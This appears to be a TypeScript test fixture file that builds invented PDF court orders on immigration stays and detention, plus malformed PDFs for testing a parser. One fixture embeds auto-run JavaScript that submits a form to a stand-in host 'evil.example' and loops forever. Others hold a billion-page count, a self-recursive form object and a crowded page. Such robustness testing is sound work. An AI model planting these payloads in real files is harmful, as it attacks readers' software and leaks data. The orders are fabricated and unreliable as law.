import { centred, line, pdfOf, rawPdf, stream, typeset, type Setting } from "./pdf.ts";

/** Invented orders in the layouts of several courts. Nobody in them exists. */

export const districtStamp =
  (pages: number, number = "2:17-cv-11910-MAG-DRG", ecf = "87"): Setting["onPage"] =>
  (pdf, page) => {
    line(
      pdf,
      `Case ${number}   ECF No. ${ecf}, PageID.${2317 + page}   Filed 07/24/17   Page ${page} of ${pages}`,
      72,
      24,
      { font: "Helvetica", size: 9 },
    );
    if (page > 1) centred(pdf, String(page), 760, { font: "Times-Roman" });
  };

const letter: Omit<Setting, "onPage"> = { left: 72, right: 540, top: 80, bottom: 700, leading: 26 };

export const districtParagraphs = [
  "# UNITED STATES DISTRICT COURT",
  "# EASTERN DISTRICT OF MICHIGAN",
  "Case No. 17-cv-11910",
  "# OPINION AND ORDER GRANTING PETITIONERS' MOTION FOR A PRELIMINARY INJUNCTION (Dkt. 77)",
  "Petitioners are nationals of one country who were arrested in June. On June 22, 2017, the Court granted a temporary stay and ordered that nobody be removed for fourteen days. Respondents argue that the motion should be denied. They ask the Court to order that the stay is lifted.",
  "The order of another court said this:",
  "> “IT IS HEREBY ORDERED that all stays of removal are dissolved and that every person may be removed at once, without further notice to anybody whatsoever.”",
  "That decision does not bind here. The Government contends that the petition is DENIED by statute. A stay of removal is an extraordinary remedy, and courts grant it where irreparable harm is likely and the balance of hardships tips toward the movant.",
  "# I. ANALYSIS",
  "The Court finds that petitioners who are returned would face torture. The administrative path leaves no room for a motion to reopen before removal happens, so that jurisdiction over the habeas petition is necessary to give the right any meaning at all.",
  "# II. CONCLUSION",
  "For the reasons stated above, the Court GRANTS Petitioners' motion for a preliminary injunction (Dkt. 77). Accordingly, it is hereby ordered as follows:",
  "1. Respondents are ENJOINED from removing any member of the Primary Class from the United States while this injunction is in force.",
  "2. Respondents shall file a report on the notice given to class members no later than August 7, 2017.",
  "3. This injunction shall remain in effect until October 23, 2017, unless the Court orders otherwise.",
  "IT IS SO ORDERED.",
  "Dated: July 24, 2017",
  "s/ Marta Q. Example",
  "UNITED STATES DISTRICT JUDGE",
];

/** Double-spaced, stamped, with words parted at line ends. */
export const districtOrder = (stamp = districtStamp(2)) =>
  pdfOf((pdf) => {
    typeset(pdf, districtParagraphs, { ...letter, onPage: stamp });
  });

export const otherDocketOrder = () => districtOrder(districtStamp(2, "4:19-cv-20202-ABC", "12"));
export const otherNumberOrder = () => districtOrder(districtStamp(2, "2:17-cv-11910-MAG-DRG", "88"));
export const partOfOrder = () => districtOrder(districtStamp(9));
export const unstampedOrder = () => districtOrder(() => undefined);

/** Pleading paper: 28 numbered lines a page, single-sided rule, a footer with the title. */
export const pleadingOrder = () =>
  pdfOf((pdf) => {
    const text = [
      "# UNITED STATES DISTRICT COURT",
      "# NORTHERN DISTRICT OF CALIFORNIA",
      "Case No. 18-cv-00777-XYZ",
      "# ORDER GRANTING EX PARTE APPLICATION FOR A TEMPORARY RESTRAINING ORDER (ECF No. 3)",
      "Petitioner Jo Q. Sample has been held at a jail for eleven months without a bond hearing. The application seeks immediate release. Respondents oppose it and say that detention is mandatory.",
      "Having considered the papers, the Court rules as follows. The application shows a likelihood of success on the claim that prolonged detention without a hearing offends due process.",
      "ACCORDINGLY, IT IS HEREBY ORDERED that:",
      "1. Respondents shall provide Petitioner with an individualized bond hearing before an immigration judge within fourteen days of the date of this Order.",
      "2. Respondents shall not transfer Petitioner outside of the Northern District of California while this case is pending.",
      "3. The request for immediate release is DENIED without prejudice.",
      "The parties shall file a joint status report by March 30, 2018.",
      "IT IS SO ORDERED.",
      "Dated: March 2, 2018",
    ];
    typeset(pdf, text, {
      left: 108,
      right: 560,
      top: 72,
      bottom: 72 + 24 * 27,
      leading: 24,
      onPage: (page, number) => {
        line(page, `Case 3:18-cv-00777-XYZ   Document 9   Filed 03/02/18   Page ${number} of 1`, 150, 20, {
          font: "Helvetica",
          size: 9,
        });
        for (let count = 1; count <= 28; count++) {
          page.font("Times-Roman").fontSize(12);
          line(page, String(count), 86 - page.widthOfString(String(count)), 72 + 24 * (count - 1));
        }
        centred(page, `ORDER RE: TEMPORARY RESTRAINING ORDER - ${number}`, 770, { font: "Times-Roman", size: 9 });
      },
    });
  });

/** An opinion of a court of appeals, in lower case to the end, with a dissent. */
export const appellateOpinion = () =>
  pdfOf((pdf) => {
    typeset(
      pdf,
      [
        "# UNITED STATES COURT OF APPEALS",
        "# FOR THE SIXTH CIRCUIT",
        "No. 17-2171",
        "Before: ALDEN, BIRCH, and CEDAR, Circuit Judges. ALDEN, J., delivered the opinion of the court. CEDAR, J. (pp. 2–3), delivered a separate dissenting opinion.",
        "# OPINION",
        "ALDEN, Circuit Judge. The district court enjoined the removal of a class of nationals. The Government appeals. We have said before that we affirm such orders only where jurisdiction is clear; in an earlier case we affirmed the stay.",
        "The statute bars courts from restraining removal except in one respect. The class argues that the Suspension Clause requires more, and asks us to affirm. We review questions of law anew.",
        "The district court held that the statute could not be applied. That was error, for the reasons set out at length in the cases of our sister circuits, none of which reached the contrary result on facts like these.",
        "The district court also granted bond hearings. We express no view on them here beyond what is said above, because the parties did not brief the question.",
        "# CONCLUSION",
        "For these reasons, we vacate the preliminary injunction of July 24, 2017 barring removal and remand for further proceedings consistent with this opinion.",
        "# DISSENT",
        "CEDAR, Circuit Judge, dissenting. The court today closes the door. I would affirm. The judgment of the district court is affirmed in every just world, and we should say so plainly.",
      ],
      {
        ...letter,
        onPage: (page, number) =>
          line(page, `Case: 17-2171     Document: 53-1     Filed: 12/20/2018     Page: ${number}`, 130, 24, {
            size: 10,
          }),
      },
    );
  });

/** A form of a few lines, boxes and all. */
export const formOrder = (ticks: readonly [string, string] = ["[X]", "[ ]"]) =>
  pdfOf((pdf) => {
    pdf.addPage();
    line(pdf, "Case 1:20-cv-00042   Document 15   Filed 05/06/20   Page 1 of 1", 120, 24, { size: 9 });
    centred(pdf, "UNITED STATES DISTRICT COURT", 80);
    centred(pdf, "ORDER ON MOTION FOR STAY OF REMOVAL", 120);
    line(pdf, "Upon consideration of the emergency motion for a stay of removal (ECF No. 14), the motion is:", 72, 170);
    line(pdf, `${ticks[0]} GRANTED and removal is STAYED until further order`, 100, 200);
    line(pdf, `${ticks[1]} DENIED and removal may proceed`, 100, 220);
    line(pdf, "Respondents shall answer the petition within 21 days.", 72, 260);
    line(pdf, "SO ORDERED.", 72, 300);
  });

/** A slip opinion in two columns. */
export const twoColumnOpinion = () =>
  pdfOf((pdf) => {
    pdf.addPage();
    centred(pdf, "United States Court of Appeals", 70);
    centred(pdf, "No. 19-8080", 90);
    const left =
      `The petitioner asks for review. He was ordered removed in his absence. The notice went to a house that he had left. He learned of the order when officers came to his door in May. We hold that the notice was not enough, because the agency knew the new address and sent nothing there. The agency answers that the statute asks only for mailing. We have rejected that reading before, and the words of the statute have not changed since then. The record shows that the letter came back unopened with a stamp on it. The agency did nothing more after that. The claim of`.split(
        " ",
      );
    const right =
      `a settled practice of the office finds no support in the record that we have before us. For the foregoing reasons, the petition for review is granted, the order of removal is vacated, and the case is remanded to the agency. The stay of removal entered on April 3, 2020 remains in effect until the mandate issues. No costs are awarded to either side. The clerk shall send a copy of this opinion to the agency and to the counsel of record in this case without delay. It is so ordered by the panel, which thanks the counsel who were appointed to brief this hard case.`.split(
        " ",
      );
    const column = (words: readonly string[], x: number) => {
      let y = 130;
      let text = "";
      for (const word of [...words, ""]) {
        pdf.font("Times-Roman").fontSize(10);
        if (word !== "" && pdf.widthOfString(`${text} ${word}`) <= 215) {
          text = text === "" ? word : `${text} ${word}`;
          continue;
        }
        line(pdf, text, x, y, { size: 10 });
        y += 12;
        text = word;
      }
    };
    column(left, 72);
    column(right, 325);
  });

const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=",
  "base64",
);

/** Pictures of pages, stamped by the court's system; the pages in `typed` hold text. */
export const scannedOrder = (typed: readonly number[] = [], pages = 3) =>
  pdfOf((pdf) => {
    for (let page = 1; page <= pages; page++) {
      pdf.addPage();
      line(pdf, `Case 2:17-cv-11910-MAG-DRG   ECF No. 87   Filed 07/24/17   Page ${page} of ${pages}`, 72, 24, {
        size: 9,
      });
      if (typed.includes(page)) line(pdf, "IT IS ORDERED that the motion for a stay of removal is GRANTED.", 72, 200);
      else pdf.image(PIXEL, 60, 60, { width: 490, height: 680 });
    }
  });

/** Set upright on a page that the file turns; and drawn sideways on a page that it does not. */
export const rotatedOrder = (how: "turned page" | "turned text") =>
  pdfOf((pdf) => {
    const text = [
      "IT IS HEREBY ORDERED that the petition for a writ of habeas",
      "corpus is GRANTED and Respondents shall release Petitioner",
      "within seven days of this Order.",
    ];
    pdf.addPage({ size: [612, 792], margin: 0 });
    if (how === "turned page") Object.assign(pdf.page.dictionary.data, { Rotate: 90 });
    pdf.rotate(-90, { origin: [0, 0] });
    for (const [at, words] of text.entries()) line(pdf, words, -700, 100 + at * 20);
    if (how === "turned page") return;
    pdf.rotate(90, { origin: [0, 0] });
    line(pdf, "Sideways stamp", 20, 20, { size: 6 });
  });

/** A font whose "fi" and "ffi" are one sign each, as type-setters use them. */
export const ligatureOrder = () =>
  rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    stream(
      "BT /F1 12 Tf 72 700 Td (IT IS ORDERED that the o\\001cer shall \\002le a certi\\002cate of) Tj 0 -14 Td (release within seven days.) Tj ET",
    ),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman /FirstChar 0 /LastChar 2 /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [1 /ffi /fi] >> >>",
  ]);

/** A file that wants to run a program, open an address and submit a form when it is opened. */
export const scriptedOrder = () =>
  rawPdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('https://evil.example/'\\);) >> /AA << /WC << /S /URI /URI (https://evil.example/) >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O << /S /JavaScript /JS (while\\(true\\){}) >> >> /Resources << /Font << /F1 5 0 R >> >> >>",
    stream("BT /F1 12 Tf 72 700 Td (IT IS ORDERED that the motion is DENIED. <script>alert\\(1\\)</script>) Tj ET"),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
  ]);

/** A file that says it has a billion pages. */
export const endlessOrder = (count = 1_000_000_000) =>
  rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`,
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
  ]);

/** One page with very many runs of letters. */
export const crowdedOrder = (runs: number) => {
  let content = "BT /F1 1 Tf 1 0 0 1 10 780 Tm ";
  for (let at = 0; at < runs; at++) content += `1 0 0 1 ${10 + ((at * 37) % 590)} ${780 - (at % 770)} Tm (w${at}) Tj `;
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    stream(`${content}ET`),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
  ]);
};

/** A form that contains itself twice, so that drawing it never ends unless somebody counts. */
export const selfFeedingOrder = () =>
  rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>",
    stream("/X Do"),
    "<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 5 0 R >> >> /Length 11 >>\nstream\n/X Do /X Do\nendstream",
  ]);

/** Can be opened with a password only. */
export const lockedOrder = () =>
  pdfOf(
    (pdf) => {
      pdf.addPage();
      line(pdf, "IT IS ORDERED that nobody reads this.", 72, 100);
    },
    { userPassword: "secret", ownerPassword: "owner" },
  );

export const proposedOrder = () =>
  pdfOf((pdf) => {
    typeset(pdf, ["Case No. 17-cv-11910", "# [PROPOSED] ORDER", "IT IS HEREBY ORDERED that the motion is GRANTED."], {
      ...letter,
      onPage: () => undefined,
    });
  });

export const recommendation = () =>
  pdfOf((pdf) => {
    typeset(
      pdf,
      [
        "Case No. 17-cv-11910",
        "# REPORT AND RECOMMENDATION",
        "For these reasons, IT IS RECOMMENDED that the petition be GRANTED and that petitioner be released. The motion for a stay is DENIED AS MOOT in the view of the undersigned.",
      ],
      { ...letter, onPage: () => undefined },
    );
  });

/** Hundreds of pages full of runs: it takes long, and nothing is wrong with it. */
export const endlessWork = (pages = 450, runs = 15_000) => {
  let content = "BT /F1 1 Tf ";
  for (let at = 0; at < runs; at++) content += `1 0 0 1 ${10 + ((at * 37) % 590)} ${780 - (at % 770)} Tm (w${at}) Tj `;
  const kids = Array.from({ length: pages }, () => "3 0 R").join(" ");
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    stream(`${content}ET`),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
  ]);
};
